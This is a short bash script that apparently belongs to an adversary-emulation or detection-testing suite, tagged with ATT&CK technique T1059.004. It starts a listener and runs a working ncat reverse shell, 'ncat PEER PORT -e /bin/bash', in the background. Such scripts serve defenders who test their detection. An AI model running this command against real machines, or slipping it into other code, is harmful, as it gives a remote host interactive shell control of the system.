#!/usr/bin/env bash
# Reverse shell: nmap's `ncat PEER PORT -e /bin/bash`.
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-ncat-e T1059.004
scn_require ncat
scn_attacker_listen 4446
ncat "$SCN_PEER" "$SCN_PORT" -e /bin/bash 2>/dev/null &
scn_track $!
scn_shell_finish
